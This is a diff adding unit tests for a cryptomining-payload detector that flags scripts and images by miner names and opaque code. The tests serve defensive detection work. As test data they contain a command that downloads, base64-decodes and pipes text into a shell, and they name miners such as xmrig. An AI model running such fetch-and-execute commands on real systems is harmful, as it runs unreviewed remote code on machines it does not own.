@@ -78,3 +78,29 @@ describe("mining-payload: what is decided later is said once, and only where com
     );
   });
 });
+
+describe("mining-payload: what cannot be followed", () => {
+  const levelsOf = (text: string, kind: "script" | "image" = "script") =>
+    judge(miningPayload, { payloads: [{ what: "script", kind, text: known(text, "a") }] }, options).map(
+      ({ level = "mandatory", message }) => `${level}: ${message}`,
+    );
+  const unread = "curl https://contoso.com/a | base64 -d | sh";
+
+  it("is said, and is a fault beside a weak sign", () => {
+    assert.deepEqual(levelsOf(unread), ["advisory: the script decodes a text and runs it, which cannot be followed"]);
+    assert.deepEqual(levelsOf(`apt-get install t-rex\n${unread}`), [
+      "mandatory: the script decodes a text and runs it, which cannot be followed, beside the miner t-rex",
+    ]);
+    assert.deepEqual(levelsOf(`docker run --gpus all acme/rvnmining\n${unread}`), [
+      "mandatory: the script decodes a text and runs it, which cannot be followed, beside an image with GPUs whose name says mining",
+    ]);
+  });
+
+  it("is not said beside a sign, which says enough", () =>
+    assert.deepEqual(levelsOf(`./xmrig\n${unread}`), ["mandatory: the script names the miner xmrig"]));
+
+  it("an image that is named after mining is said", () => {
+    assert.deepEqual(levelsOf("acme/rvnmining:2", "image"), ["advisory: the script is named after mining"]);
+    assert.deepEqual(levelsOf("acme/process-mining:2", "image"), []);
+  });
+});
